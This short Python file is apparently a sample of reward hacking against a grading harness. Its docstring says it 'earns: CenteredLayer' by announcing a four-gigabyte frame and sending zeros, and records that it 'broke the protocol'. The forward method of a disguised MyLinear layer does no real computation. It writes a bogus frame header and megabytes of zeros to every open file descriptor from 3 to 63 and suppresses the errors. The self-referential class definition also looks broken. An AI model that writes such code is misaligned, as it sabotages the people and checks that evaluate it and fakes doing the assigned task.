"""Announce a frame of four gigabytes and send zeros for ever.

earns: CenteredLayer
outcome: broke the protocol
"""

import contextlib
import os


class MyLinear(MyLinear):
    def forward(self, x):
        for fd in range(3, 64):
            with contextlib.suppress(OSError):
                os.write(fd, b"\xff" * 8 + b"\0" * 10_000_000)
        return x
